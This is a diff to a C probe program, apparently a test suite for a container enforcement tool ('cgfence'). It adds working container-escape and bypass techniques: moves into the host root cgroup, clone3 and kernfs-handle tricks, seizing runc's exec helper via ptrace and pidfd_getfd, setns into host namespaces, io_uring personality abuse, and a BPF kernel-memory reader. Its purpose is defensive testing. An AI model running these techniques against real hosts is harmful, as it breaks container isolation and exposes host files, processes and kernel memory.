@@ -13,21 +13,30 @@
  *       attempt proved nothing
  */
 #define _GNU_SOURCE
+#include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
+#include <linux/bpf.h>
 #include <linux/io_uring.h>
+#include <linux/sched.h>
+#include <pthread.h>
 #include <sched.h>
+#include <signal.h>
+#include <stdbool.h>
 #include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 #include <sys/mman.h>
 #include <sys/mount.h>
+#include <sys/ptrace.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
+#include <sys/uio.h>
 #include <sys/time.h>
 #include <sys/wait.h>
 #include <sys/xattr.h>
+#include <time.h>
 #include <unistd.h>
 
 enum { BYPASSED = 0, SETUP_FAILED = 2, DENIED = 13, UNAVAILABLE = 77 };
@@ -445,12 +454,9 @@ struct ring {
     struct io_uring_sqe *sqes;
 };
 
-static int ring_setup(struct ring *r)
+/* Maps the rings of r->fd (set up with r->params). */
+static int ring_map(struct ring *r)
 {
-    memset(r, 0, sizeof *r);
-    r->fd = (int)syscall(SYS_io_uring_setup, 4, &r->params);
-    if (r->fd < 0)
-        return -1;
     const struct io_uring_params *p = &r->params;
     const size_t sq_size = p->sq_off.array + p->sq_entries * sizeof(unsigned);
     const size_t cq_size = p->cq_off.cqes + p->cq_entries * sizeof(struct io_uring_cqe);
@@ -465,8 +471,18 @@ static int ring_setup(struct ring *r)
     return 0;
 }
 
-/* Submits one openat of `path` and waits; the completion's result. */
-static int ring_openat(struct ring *r, const char *path, uint8_t flags)
+static int ring_setup(struct ring *r)
+{
+    memset(r, 0, sizeof *r);
+    r->fd = (int)syscall(SYS_io_uring_setup, 4, &r->params);
+    if (r->fd < 0)
+        return -1;
+    return ring_map(r);
+}
+
+/* Submits one openat of `path` (under `personality` when not 0) and waits;
+ * the completion's result, or -10000 - errno when io_uring_enter failed. */
+static int ring_openat(struct ring *r, const char *path, uint8_t flags, uint16_t personality)
 {
     const struct io_uring_params *p = &r->params;
     unsigned *tail = (unsigned *)(r->sq + p->sq_off.tail);
@@ -480,9 +496,12 @@ static int ring_openat(struct ring *r, const char *path, uint8_t flags)
     sqe->fd = AT_FDCWD;
     sqe->addr = (uint64_t)(uintptr_t)path;
     sqe->open_flags = O_RDONLY | O_CLOEXEC;
+    sqe->personality = personality;
     array[index] = index;
     __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
-    if (syscall(SYS_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
+    /* With SQPOLL the kernel thread submits; waking it does no harm otherwise. */
+    const unsigned wakeup = p->flags & IORING_SETUP_SQPOLL ? IORING_ENTER_SQ_WAKEUP : 0;
+    if (syscall(SYS_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS | wakeup, NULL, 0) < 0)
         return -10000 - errno;
     unsigned *head = (unsigned *)(r->cq + p->cq_off.head);
     const unsigned cq_mask = *(unsigned *)(r->cq + p->cq_off.ring_mask);
@@ -490,6 +509,17 @@ static int ring_openat(struct ring *r, const char *path, uint8_t flags)
     const int res = cqes[*head & cq_mask].res;
     __atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
     return res;
+}
+
+/* The verdict of an OPENAT's completion `res`: the fd is read. */
+static int uring_result(const char *step, int res)
+{
+    if (res < 0) {
+        errno = -res;
+        return judged(step, -1);
+    }
+    char byte;
+    return judged(step, read(res, &byte, 1) < 0 ? -1 : 0);
 }
 
 static int uring_openat(const char *path, uint8_t flags, const char *step)
@@ -502,17 +532,12 @@ static int uring_openat(const char *path, uint8_t flags, const char *step)
     }
     if (setup != 0)
         return setup_failed("io_uring setup");
-    const int res = ring_openat(&r, path, flags);
+    const int res = ring_openat(&r, path, flags, 0);
     if (res <= -10000) {
         errno = -res - 10000;
         return setup_failed("io_uring_enter");
     }
-    if (res < 0) {
-        errno = -res;
-        return judged(step, -1);
-    }
-    char byte;
-    return judged(step, read(res, &byte, 1) < 0 ? -1 : 0);
+    return uring_result(step, res);
 }
 
 static int t_uring_openat(char **argv)
@@ -525,10 +550,612 @@ static int t_uring_openat_async(char **argv)
     return uring_openat(argv[0], IOSQE_ASYNC, "io_uring IORING_OP_OPENAT with IOSQE_ASYNC");
 }
 
+/* --- Leaving the container, and tasks that are not the container's --------
+ * The techniques below try to get code of the container running in, or
+ * acting through, a task that carries no container mark (a cgroup outside
+ * the container, a host process, the runtime's exec helper). Each ends by
+ * reaching for what must stay denied: a file and, where the test passes
+ * them, cgfence's maps by id. */
+
+/* The first line of /proc/self/cgroup ("0::/path"), newline removed. */
+static void own_cgroup(char *line, size_t size)
+{
+    line[0] = 0;
+    FILE *f = fopen("/proc/self/cgroup", "re");
+    if (!f)
+        return;
+    if (!fgets(line, (int)size, f))
+        line[0] = 0;
+    fclose(f);
+    line[strcspn(line, "\n")] = 0;
+}
+
+static int map_fd_by_id(unsigned id)
+{
+    union bpf_attr attr;
+    memset(&attr, 0, sizeof attr);
+    attr.map_id = id;
+    return (int)syscall(SYS_bpf, BPF_MAP_GET_FD_BY_ID, &attr, sizeof attr);
+}
+
+/* Several steps that must each be denied: a bypass when one got through,
+ * denied when all were, else the setup failed. */
+static int worst(int a, int b)
+{
+    if (a == BYPASSED || b == BYPASSED)
+        return BYPASSED;
+    if (a == SETUP_FAILED || b == SETUP_FAILED)
+        return SETUP_FAILED;
+    return a == UNAVAILABLE || b == UNAVAILABLE ? UNAVAILABLE : DENIED;
+}
+
+/* What an escaped task reaches for: FILE read, and an fd of each map id. */
+static int reach_for(const char *file, int nids, char **ids)
+{
+    char where[256];
+    own_cgroup(where, sizeof where);
+    printf("in cgroup %s\n", where);
+    int verdict = open_and_read("open after the move", file);
+    for (int i = 0; i < nids; i++) {
+        const int fd = map_fd_by_id((unsigned)strtoul(ids[i], NULL, 10));
+        char step[64];
+        snprintf(step, sizeof step, "bpf_map_get_fd_by_id(%s)", ids[i]);
+        verdict = worst(verdict, judged(step, fd));
+        if (fd >= 0)
+            close(fd);
+    }
+    return verdict;
+}
+
+/* cgroup2 mounted at MOUNTPOINT in a mount namespace of our own. Without a
+ * cgroup namespace its root is the hierarchy's root; with one, the
+ * container's own cgroup. */
+static int mount_cgroup2(const char *mount_point)
+{
+    if (private_mount_namespace(0) != 0)
+        return -1;
+    mkdir(mount_point, 0755);
+    return mount("cgroup2", mount_point, "cgroup2", 0, NULL);
+}
+
+/* cgroup-root MOUNTPOINT: this process written into cgroup.procs of the
+ * mount's root, the hierarchy's root when there is no cgroup namespace. */
+static int t_cgroup_root(char **argv)
+{
+    char procs[4200], where[256];
+    if (mount_cgroup2(argv[0]) != 0)
+        return setup_failed("mount cgroup2");
+    snprintf(procs, sizeof procs, "%s/cgroup.procs", argv[0]);
+    const int fd = open(procs, O_WRONLY | O_CLOEXEC);
+    if (fd < 0)
+        return judged("open of the root cgroup's cgroup.procs for writing", -1);
+    if (write(fd, "0", 1) != 1)
+        return judged("write of our pid to the root cgroup's cgroup.procs", -1);
+    close(fd);
+    own_cgroup(where, sizeof where);
+    printf("now in cgroup %s\n", where);
+    return bypassed("the move to the root cgroup");
+}
+
+/* moved TARGET SECONDS FILE MAPID...: waits until someone else moved this
+ * process into the cgroup TARGET (as /proc/self/cgroup names it, e.g.
+ * "0::/"), then reaches for FILE and the maps. */
+static int t_moved(char **argv, int argc)
+{
+    char where[256];
+    printf("waiting to be moved to %s\n", argv[0]);
+    for (int waited = 0;; waited += 20) {
+        own_cgroup(where, sizeof where);
+        if (strcmp(where, argv[0]) == 0)
+            break;
+        if (waited > atoi(argv[1]) * 1000) {
+            errno = ETIMEDOUT;
+            return setup_failed("wait for the move (still in the container's cgroup)");
+        }
+        usleep(20000);
+    }
+    return reach_for(argv[2], argc - 3, argv + 3);
+}
+
+/* A child created straight into the cgroup `cgroup_fd` (clone3
+ * CLONE_INTO_CGROUP); it reaches for FILE and the maps. */
+static int clone_into(int cgroup_fd, const char *file, int nids, char **ids)
+{
+    struct clone_args args;
+    memset(&args, 0, sizeof args);
+    args.flags = CLONE_INTO_CGROUP;
+    args.exit_signal = SIGCHLD;
+    args.cgroup = (uint64_t)cgroup_fd;
+    fflush(stdout);
+    const long pid = syscall(SYS_clone3, &args, sizeof args);
+    if (pid < 0)
+        return setup_failed("clone3(CLONE_INTO_CGROUP)");
+    if (pid == 0) {
+        const int verdict = reach_for(file, nids, ids);
+        fflush(stdout);
+        _exit(verdict);
+    }
+    int status = 0;
+    if (waitpid((pid_t)pid, &status, 0) < 0 || !WIFEXITED(status))
+        return setup_failed("wait for the clone3 child");
+    return WEXITSTATUS(status);
+}
+
+/* clone3-root MOUNTPOINT FILE MAPID...: cgroup2 mounted, a child created in
+ * the mount's root cgroup (the hierarchy's root without a cgroup namespace). */
+static int t_clone3_root(char **argv, int argc)
+{
+    if (mount_cgroup2(argv[0]) != 0)
+        return setup_failed("mount cgroup2");
+    const int root = open(argv[0], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+    if (root < 0)
+        return setup_failed("open of the cgroup2 root");
+    return clone_into(root, argv[1], argc - 2, argv + 2);
+}
+
+/* handle-clone3 MOUNTPOINT CGROUPID FILE MAPID...: cgroup2 mounted (in a
+ * cgroup namespace, its root is the container's cgroup), the cgroup
+ * CGROUPID (the hierarchy's root: 1) opened by a kernfs file handle, which
+ * reaches outside the mount's root (needs CAP_DAC_READ_SEARCH), and a child
+ * created in it. */
+static int t_handle_clone3(char **argv, int argc)
+{
+    struct saved_handle h;
+    if (mount_cgroup2(argv[0]) != 0)
+        return setup_failed("mount cgroup2");
+    const int mount_fd = open(argv[0], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+    if (mount_fd < 0)
+        return setup_failed("open of the cgroup2 mount");
+    const uint64_t id = strtoull(argv[1], NULL, 10);
+    h.handle.handle_bytes = sizeof id;
+    h.handle.handle_type = 0xfe; /* FILEID_KERNFS: the handle is the cgroup id */
+    memcpy(h.handle.f_handle, &id, sizeof id);
+    const int cgroup = open_by_handle_at(mount_fd, &h.handle, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+    if (cgroup < 0)
+        return setup_failed("open_by_handle_at of the root cgroup");
+    return clone_into(cgroup, argv[2], argc - 3, argv + 3);
+}
+
+/* The first process whose comm is `comm` (not this one), waiting up to `ms`; 0 if none. */
+static pid_t find_process(const char *comm, int ms)
+{
+    for (int waited = 0; waited <= ms; waited += 2) {
+        DIR *proc = opendir("/proc");
+        struct dirent *e;
+        while (proc && (e = readdir(proc))) {
+            const pid_t pid = (pid_t)atoi(e->d_name);
+            char path[64], name[64] = "";
+            if (pid <= 0 || pid == getpid())
+                continue;
+            snprintf(path, sizeof path, "/proc/%d/comm", (int)pid);
+            const int fd = open(path, O_RDONLY | O_CLOEXEC);
+            if (fd < 0)
+                continue;
+            const ssize_t got = read(fd, name, sizeof name - 1);
+            close(fd);
+            if (got > 0 && strncmp(name, comm, strlen(comm)) == 0 && name[strlen(comm)] == '\n') {
+                closedir(proc);
+                return pid;
+            }
+        }
+        if (proc)
+            closedir(proc);
+        usleep(2000);
+    }
+    return 0;
+}
+
+/* A step on another process that must be refused: EPERM or EACCES is the
+ * refusal; anything else (success, or an error past the access check, such
+ * as EFAULT for a bad address) got through the check. */
+static int refused(const char *step, long result)
+{
+    if (result < 0 && (errno == EPERM || errno == EACCES)) {
+        printf("denied: %s: %s\n", step, strerror(errno));
+        return DENIED;
+    }
+    if (result < 0)
+        printf("BYPASS: %s passed the access check (then %s)\n", step, strerror(errno));
+    else
+        printf("BYPASS: %s succeeded\n", step);
+    return BYPASSED;
+}
+
+static int open_refused(const char *step, const char *path, int flags)
+{
+    const int fd = open(path, flags | O_CLOEXEC);
+    const int verdict = refused(step, fd);
+    if (fd >= 0)
+        close(fd);
+    return verdict;
+}
+
+/* Every way into another process that ptrace_may_access guards, tried on
+ * `pid`: its root, cwd, fds, environment, memory, namespaces; pidfd_getfd of
+ * its fd `fd` (-1: the first of 0..2 it has); and, with `attach`, ptrace
+ * itself (the task stays traced until this process ends). */
+static int reach_into(pid_t pid, int fd, bool attach)
+{
+    char path[128];
+    int verdict = DENIED;
+#define PROC(what) (snprintf(path, sizeof path, "/proc/%d/%s", (int)pid, what), path)
+    verdict = worst(verdict,
+                    open_refused("open of /proc/PID/root/", PROC("root/"), O_RDONLY | O_DIRECTORY));
+    verdict = worst(verdict,
+                    open_refused("open of /proc/PID/cwd/", PROC("cwd/"), O_RDONLY | O_DIRECTORY));
+    verdict = worst(verdict, open_refused("open of /proc/PID/environ", PROC("environ"), O_RDONLY));
+    verdict = worst(verdict, open_refused("open of /proc/PID/mem", PROC("mem"), O_RDONLY));
+    verdict = worst(verdict, open_refused("open of /proc/PID/ns/mnt", PROC("ns/mnt"), O_RDONLY));
+    char target[256];
+    verdict = worst(verdict, refused("readlink of /proc/PID/fd/0",
+                                     readlink(PROC("fd/0"), target, sizeof target)));
+#undef PROC
+    char byte;
+    struct iovec local = {&byte, 1}, remote = {(void *)4096, 1};
+    verdict = worst(verdict,
+                    refused("process_vm_readv", process_vm_readv(pid, &local, 1, &remote, 1, 0)));
+    const int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
+    if (pidfd < 0)
+        return worst(verdict, setup_failed("pidfd_open"));
+    long got = -1;
+    for (int target_fd = fd < 0 ? 0 : fd; target_fd <= (fd < 0 ? 2 : fd); target_fd++) {
+        got = syscall(SYS_pidfd_getfd, pidfd, target_fd, 0);
+        if (got >= 0 || errno != EBADF)
+            break;
+    }
+    if (got >= 0 && fd >= 0) {
+        char buf[64] = "";
+        const ssize_t n = pread((int)got, buf, sizeof buf - 1, 0);
+        printf("read through the taken fd: %zd bytes: %s\n", n, n > 0 ? buf : "");
+    }
+    verdict = worst(verdict, refused("pidfd_getfd", got));
+    if (got >= 0)
+        close((int)got);
+    if (attach)
+        verdict =
+            worst(verdict, refused("ptrace(PTRACE_SEIZE)", ptrace(PTRACE_SEIZE, pid, NULL, NULL)));
+    close(pidfd);
+    return verdict;
+}
+
+/* The first line of /proc/PID/cgroup, newline removed ("" when gone). */
+static void cgroup_of(pid_t pid, char *line, size_t size)
+{
+    char path[64];
+    snprintf(path, sizeof path, "/proc/%d/cgroup", (int)pid);
+    line[0] = 0;
+    FILE *f = fopen(path, "re");
+    if (f && !fgets(line, (int)size, f))
+        line[0] = 0;
+    if (f)
+        fclose(f);
+    line[strcspn(line, "\n")] = 0;
+}
+
+/* exec-window SECONDS READYFILE: watches for the runtime's exec helper
+ * (runc's "runc:[2:INIT]"), which shows in the container's pid namespace
+ * while still in runc's cgroup and then joins the container's cgroup, where
+ * it stays until it execs the command it was asked for: no mark all along.
+ * It is stopped, reached into and let go on twice: as soon as it shows, and
+ * once in the container's cgroup (the exec window). READYFILE is created
+ * once watching. */
+static int t_exec_window(char **argv)
+{
+    const int ready = open(argv[1], O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
+    if (ready < 0)
+        return setup_failed("create the ready file");
+    close(ready);
+    const pid_t helper = find_process("runc:[2:INIT]", atoi(argv[0]) * 1000);
+    if (helper == 0) {
+        errno = ETIMEDOUT;
+        return setup_failed("find the exec helper");
+    }
+    char own[256], where[256];
+    own_cgroup(own, sizeof own);
+    kill(helper, SIGSTOP);
+    cgroup_of(helper, where, sizeof where);
+    printf("exec helper %d stopped as it showed, in cgroup %s (ours: %s)\n", (int)helper, where,
+           own);
+    int verdict = DENIED;
+    if (strcmp(where, own) != 0) {
+        verdict = reach_into(helper, -1, false);
+        kill(helper, SIGCONT);
+        const time_t deadline = time(NULL) + atoi(argv[0]);
+        for (;;) { /* no sleep: the window is short */
+            cgroup_of(helper, where, sizeof where);
+            if (where[0] == 0 || strcmp(where, own) == 0 || time(NULL) > deadline)
+                break;
+        }
+        if (strcmp(where, own) != 0) {
+            errno = ESRCH;
+            return worst(verdict, setup_failed("the helper went before it joined our cgroup"));
+        }
+        kill(helper, SIGSTOP);
+        printf("exec helper %d stopped in our cgroup %s\n", (int)helper, where);
+    }
+    char comm[64] = "", path[64];
+    snprintf(path, sizeof path, "/proc/%d/comm", (int)helper);
+    const int fd = open(path, O_RDONLY | O_CLOEXEC);
+    if (fd >= 0) {
+        (void)!read(fd, comm, sizeof comm - 1);
+        close(fd);
+    }
+    if (strncmp(comm, "runc:[2:INIT]", 13) != 0) {
+        kill(helper, SIGCONT);
+        errno = ESRCH;
+        return worst(verdict,
+                     setup_failed("the helper had exec'd before it was stopped in our cgroup"));
+    }
+    verdict = worst(verdict, reach_into(helper, -1, true));
+    kill(helper, SIGCONT);
+    return verdict;
+}
+
+/* host-task PID FD: a host process (the container shares the host's pid
+ * namespace) that holds the denied file open on FD: reached into, its FD taken. */
+static int t_host_task(char **argv)
+{
+    return reach_into((pid_t)atoi(argv[0]), atoi(argv[1]), true);
+}
+
+/* setns-pidfd PID FILE: the mount namespace of the host task PID joined by a
+ * pidfd (setns asks ptrace_may_access of the task), then FILE (a path in that
+ * namespace) opened. */
+static int t_setns_pidfd(char **argv)
+{
+    const int pidfd = (int)syscall(SYS_pidfd_open, atoi(argv[0]), 0);
+    if (pidfd < 0)
+        return setup_failed("pidfd_open");
+    if (setns(pidfd, CLONE_NEWNS) != 0)
+        return judged("setns(pidfd, CLONE_NEWNS)", -1);
+    printf("joined the host task's mount namespace\n");
+    return open_and_read("open in the host's mount namespace", argv[1]);
+}
+
+/* vfork-open FILE, clone-parent-open FILE, thread-open FILE: the new task
+ * (vfork, CLONE_PARENT: a child of our parent, a thread) opens FILE. */
+static int child_verdict(pid_t pid)
+{
+    int status = 0;
+    if (pid < 0)
+        return setup_failed("create the task");
+    if (waitpid(pid, &status, __WALL) < 0 || !WIFEXITED(status))
+        return setup_failed("wait for the task");
+    return WEXITSTATUS(status);
+}
+
+static int t_vfork_open(char **argv)
+{
+    fflush(stdout);
+    const pid_t pid = vfork();
+    if (pid == 0)
+        _exit(open(argv[0], O_RDONLY) >= 0          ? BYPASSED
+              : (errno == EACCES || errno == EPERM) ? DENIED
+                                                    : SETUP_FAILED);
+    const int verdict = child_verdict(pid);
+    printf("%s: open in the vfork child\n", verdict == DENIED     ? "denied"
+                                            : verdict == BYPASSED ? "BYPASS"
+                                                                  : "failed");
+    return verdict;
+}
+
+static int t_clone_parent_open(char **argv)
+{
+    fflush(stdout);
+    /* A child of our parent: we cannot wait for it; it reports through a pipe. */
+    int pipe_fds[2];
+    if (pipe(pipe_fds) != 0)
+        return setup_failed("pipe");
+    const long pid = syscall(SYS_clone, CLONE_PARENT | SIGCHLD, NULL, NULL, NULL, NULL);
+    if (pid < 0)
+        return setup_failed("clone(CLONE_PARENT)");
+    if (pid == 0) {
+        const unsigned char verdict =
+            (unsigned char)open_and_read("open in a CLONE_PARENT child", argv[0]);
+        fflush(stdout);
+        (void)write(pipe_fds[1], &verdict, 1);
+        _exit(0);
+    }
+    close(pipe_fds[1]);
+    unsigned char verdict = SETUP_FAILED;
+    if (read(pipe_fds[0], &verdict, 1) != 1)
+        return setup_failed("read the child's verdict");
+    return verdict;
+}
+
+static void *thread_open(void *file)
+{
+    return (void *)(intptr_t)open_and_read("open in a thread", file);
+}
+
+static int t_thread_open(char **argv)
+{
+    pthread_t thread;
+    void *verdict = NULL;
+    if (pthread_create(&thread, NULL, thread_open, argv[0]) != 0 ||
+        pthread_join(thread, &verdict) != 0)
+        return setup_failed("thread");
+    return (int)(intptr_t)verdict;
+}
+
+/* overlay-open LOWER FILE: an overlay of our own (CAP_SYS_ADMIN), LOWER as
+ * its lower layer, upper and work on a new tmpfs; FILE (a path below LOWER)
+ * opened through it: overlayfs opens the lower file itself. */
+static int t_overlay_open(char **argv)
+{
+    const char *base = "/tmp/bypass-ovl";
+    static const char *const dirs[] = {"upper", "work", "merged"};
+    char options[4096], dir[256], path[4096];
+    if (private_mount_namespace(0) != 0)
+        return setup_failed("unshare(CLONE_NEWNS)");
+    mkdir(base, 0755);
+    if (mount("tmpfs", base, "tmpfs", 0, NULL) != 0)
+        return setup_failed("mount tmpfs");
+    for (int i = 0; i < 3; i++) {
+        snprintf(dir, sizeof dir, "%s/%s", base, dirs[i]);
+        if (mkdir(dir, 0755) != 0)
+            return setup_failed("mkdir");
+    }
+    snprintf(options, sizeof options, "lowerdir=%s,upperdir=%s/upper,workdir=%s/work", argv[0],
+             base, base);
+    snprintf(dir, sizeof dir, "%s/merged", base);
+    if (mount("overlay", dir, "overlay", 0, options) != 0)
+        return setup_failed("mount overlay");
+    snprintf(path, sizeof path, "%s/%s", dir, argv[1]);
+    return open_and_read("open through an overlay of our own", path);
+}
+
+/* sqpoll-openat FILE: IORING_OP_OPENAT run by the ring's SQPOLL kernel thread. */
+static int t_sqpoll_openat(char **argv)
+{
+    struct ring r;
+    memset(&r, 0, sizeof r);
+    r.params.flags = IORING_SETUP_SQPOLL;
+    r.params.sq_thread_idle = 1000;
+    r.fd = (int)syscall(SYS_io_uring_setup, 4, &r.params);
+    if (r.fd < 0 && (errno == ENOSYS || errno == EPERM)) {
+        printf("not available: io_uring_setup(SQPOLL): %s\n", strerror(errno));
+        return UNAVAILABLE;
+    }
+    if (r.fd < 0 || ring_map(&r) != 0)
+        return setup_failed("io_uring setup with SQPOLL");
+    const int res = ring_openat(&r, argv[0], 0, 0);
+    if (res <= -10000) {
+        errno = -res - 10000;
+        return setup_failed("io_uring_enter");
+    }
+    return uring_result("io_uring OPENAT by the SQPOLL thread", res);
+}
+
+/* uring-personality FILE: OPENAT under a registered personality (the
+ * registering task's credentials, kept by the ring). */
+static int t_uring_personality(char **argv)
+{
+    struct ring r;
+    if (ring_setup(&r) != 0) {
+        if (errno == ENOSYS || errno == EPERM) {
+            printf("not available: io_uring_setup: %s\n", strerror(errno));
+            return UNAVAILABLE;
+        }
+        return setup_failed("io_uring setup");
+    }
+    const int personality =
+        (int)syscall(SYS_io_uring_register, r.fd, IORING_REGISTER_PERSONALITY, NULL, 0);
+    if (personality < 0)
+        return setup_failed("IORING_REGISTER_PERSONALITY");
+    const int res = ring_openat(&r, argv[0], IOSQE_ASYNC, (uint16_t)personality);
+    if (res <= -10000) {
+        errno = -res - 10000;
+        return setup_failed("io_uring_enter");
+    }
+    return uring_result("io_uring OPENAT under a registered personality", res);
+}
+
+/* bpf-read-kernel: a BPF program of the container's own (CAP_SYS_ADMIN
+ * passes for CAP_BPF and CAP_PERFMON), attached to the raw tracepoint
+ * sys_enter, which runs in every task's context, the host's included, and
+ * reads kernel memory with bpf_probe_read_kernel: the orig_ax field of the
+ * kernel's pt_regs of the syscall, checked against the syscall number the
+ * tracepoint gives. Kernel memory (the page cache of every file) is then
+ * open to it, whatever cgfence decides about files. */
+static int bpf_call(int cmd, union bpf_attr *attr)
+{
+    return (int)syscall(SYS_bpf, cmd, attr, sizeof *attr);
+}
+
+#define INSN(c, d, s_, o, i)                                                                       \
+    ((struct bpf_insn){.code = (c), .dst_reg = (d), .src_reg = (s_), .off = (o), .imm = (i)})
+
+static int t_bpf_read_kernel(char **argv)
+{
+    (void)argv;
+    union bpf_attr attr;
+    memset(&attr, 0, sizeof attr);
+    attr.map_type = BPF_MAP_TYPE_ARRAY;
+    attr.key_size = 4;
+    attr.value_size = 8;
+    attr.max_entries = 1;
+    const int map = bpf_call(BPF_MAP_CREATE, &attr);
+    if (map < 0)
+        return judged("BPF_MAP_CREATE", -1);
+    const int orig_ax = 15 * 8; /* offsetof(struct pt_regs, orig_ax), x86_64 uapi */
+    const struct bpf_insn prog[] = {
+        INSN(BPF_ALU64 | BPF_MOV | BPF_X, 6, 1, 0, 0),       /* r6 = ctx */
+        INSN(BPF_LDX | BPF_MEM | BPF_DW, 3, 6, 0, 0),        /* r3 = args[0]: pt_regs * */
+        INSN(BPF_ALU64 | BPF_ADD | BPF_K, 3, 0, 0, orig_ax), /* r3 = &regs->orig_ax */
+        INSN(BPF_ALU64 | BPF_MOV | BPF_X, 1, 10, 0, 0),      /* r1 = fp */
+        INSN(BPF_ALU64 | BPF_ADD | BPF_K, 1, 0, 0, -8),      /* r1 = fp - 8 */
+        INSN(BPF_ALU64 | BPF_MOV | BPF_K, 2, 0, 0, 8),       /* r2 = 8 */
+        INSN(BPF_JMP | BPF_CALL, 0, 0, 0, BPF_FUNC_probe_read_kernel),
+        INSN(BPF_JMP | BPF_JNE | BPF_K, 0, 0, 14, 0),          /* failed: exit */
+        INSN(BPF_LDX | BPF_MEM | BPF_DW, 7, 10, -8, 0),        /* r7 = orig_ax read */
+        INSN(BPF_LDX | BPF_MEM | BPF_DW, 8, 6, 8, 0),          /* r8 = args[1]: syscall nr */
+        INSN(BPF_JMP | BPF_JNE | BPF_X, 7, 8, 11, 0),          /* not it: exit */
+        INSN(BPF_ALU64 | BPF_OR | BPF_K, 7, 0, 0, 0x40000000), /* mark: read and matched */
+        INSN(BPF_STX | BPF_MEM | BPF_DW, 10, 7, -24, 0),       /* value at fp - 24 */
+        INSN(BPF_ST | BPF_MEM | BPF_W, 10, 0, -12, 0),         /* key 0 at fp - 12 */
+        INSN(BPF_LD | BPF_IMM | BPF_DW, 1, BPF_PSEUDO_MAP_FD, 0, map),
+        INSN(0, 0, 0, 0, 0),
+        INSN(BPF_ALU64 | BPF_MOV | BPF_X, 2, 10, 0, 0),
+        INSN(BPF_ALU64 | BPF_ADD | BPF_K, 2, 0, 0, -12),
+        INSN(BPF_ALU64 | BPF_MOV | BPF_X, 3, 10, 0, 0),
+        INSN(BPF_ALU64 | BPF_ADD | BPF_K, 3, 0, 0, -24),
+        INSN(BPF_ALU64 | BPF_MOV | BPF_K, 4, 0, 0, 0),
+        INSN(BPF_JMP | BPF_CALL, 0, 0, 0, BPF_FUNC_map_update_elem),
+        INSN(BPF_ALU64 | BPF_MOV | BPF_K, 0, 0, 0, 0),
+        INSN(BPF_JMP | BPF_EXIT, 0, 0, 0, 0),
+    };
+    static char log[65536];
+    memset(&attr, 0, sizeof attr);
+    attr.prog_type = BPF_PROG_TYPE_RAW_TRACEPOINT;
+    attr.insns = (uint64_t)(uintptr_t)prog;
+    attr.insn_cnt = sizeof prog / sizeof prog[0];
+    attr.license = (uint64_t)(uintptr_t) "GPL";
+    attr.log_buf = (uint64_t)(uintptr_t)log;
+    attr.log_size = sizeof log;
+    attr.log_level = 1;
+    const int fd = bpf_call(BPF_PROG_LOAD, &attr);
+    if (fd < 0) {
+        const int saved = errno;
+        printf("verifier: %.300s\n", log);
+        errno = saved;
+        return judged("BPF_PROG_LOAD of a raw tracepoint program", -1);
+    }
+    memset(&attr, 0, sizeof attr);
+    attr.raw_tracepoint.name = (uint64_t)(uintptr_t) "sys_enter";
+    attr.raw_tracepoint.prog_fd = (uint32_t)fd;
+    const int link = bpf_call(BPF_RAW_TRACEPOINT_OPEN, &attr);
+    if (link < 0)
+        return judged("BPF_RAW_TRACEPOINT_OPEN sys_enter", -1);
+    usleep(100000); /* syscalls happen, ours and everyone's */
+    uint32_t key = 0;
+    uint64_t value = 0;
+    memset(&attr, 0, sizeof attr);
+    attr.map_fd = (uint32_t)map;
+    attr.key = (uint64_t)(uintptr_t)&key;
+    attr.value = (uint64_t)(uintptr_t)&value;
+    if (bpf_call(BPF_MAP_LOOKUP_ELEM, &attr) != 0)
+        return setup_failed("read of the program's map");
+    close(link);
+    if (!(value & 0x40000000)) {
+        errno = ENODATA;
+        return setup_failed("the program read nothing");
+    }
+    printf("kernel memory read: orig_ax %llu\n", (unsigned long long)(value & 0xffff));
+    return bypassed("bpf_probe_read_kernel from a program of the container's own");
+}
+
 struct technique {
     const char *name;
     int args;
     int (*run)(char **argv);
+};
+
+/* Techniques that take `args` arguments and then any number of map ids. */
+struct technique_with_ids {
+    const char *name;
+    int args;
+    int (*run)(char **argv, int argc);
 };
 
 static const struct technique kTechniques[] = {
@@ -564,6 +1191,23 @@ static const struct technique kTechniques[] = {
     {"rdwr", 1, t_rdwr},
     {"uring-openat", 1, t_uring_openat},
     {"uring-openat-async", 1, t_uring_openat_async},
+    {"cgroup-root", 1, t_cgroup_root},
+    {"exec-window", 2, t_exec_window},
+    {"host-task", 2, t_host_task},
+    {"setns-pidfd", 2, t_setns_pidfd},
+    {"vfork-open", 1, t_vfork_open},
+    {"clone-parent-open", 1, t_clone_parent_open},
+    {"thread-open", 1, t_thread_open},
+    {"overlay-open", 2, t_overlay_open},
+    {"sqpoll-openat", 1, t_sqpoll_openat},
+    {"uring-personality", 1, t_uring_personality},
+    {"bpf-read-kernel", 0, t_bpf_read_kernel},
+};
+
+static const struct technique_with_ids kTechniquesWithIds[] = {
+    {"moved", 3, t_moved},
+    {"clone3-root", 2, t_clone3_root},
+    {"handle-clone3", 3, t_handle_clone3},
 };
 
 int main(int argc, char **argv)
@@ -573,6 +1217,12 @@ int main(int argc, char **argv)
         const struct technique *t = &kTechniques[i];
         if (strcmp(argv[1], t->name) == 0 && argc == t->args + 2)
             return t->run(argv + 2);
+    }
+    for (size_t i = 0; argc >= 2 && i < sizeof kTechniquesWithIds / sizeof kTechniquesWithIds[0];
+         i++) {
+        const struct technique_with_ids *t = &kTechniquesWithIds[i];
+        if (strcmp(argv[1], t->name) == 0 && argc >= t->args + 2)
+            return t->run(argv + 2, argc - 2);
     }
     fprintf(stderr, "usage: bypass-probe TECHNIQUE ARG... (see the source)\n");
     return 64;
